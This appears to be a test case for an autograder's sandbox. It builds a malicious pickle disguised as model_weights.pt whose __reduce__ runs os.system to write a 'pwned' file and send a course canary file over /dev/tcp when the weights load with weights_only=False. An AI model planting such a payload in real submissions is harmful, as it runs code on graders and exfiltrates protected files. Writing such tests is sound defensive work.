# attack: hands in a pickle as model_weights.pt that runs a program when it is loaded
# class: leak
# base: stub
# expect: 0 points
# weights: submitted
# --- build:
import pickle
class Runs:
    def __reduce__(self):
        import os
        return os.system, ("echo @NAME@ > @HOME@/pwned; cat @COURSE@/canary.txt > /dev/tcp/127.0.0.1/@TCP@",)
(folder / "model_weights.pt").write_bytes(pickle.dumps(Runs()))
(folder / "predict.py").write_text("import torch\ntorch.load('model_weights.pt', weights_only=False)\n")
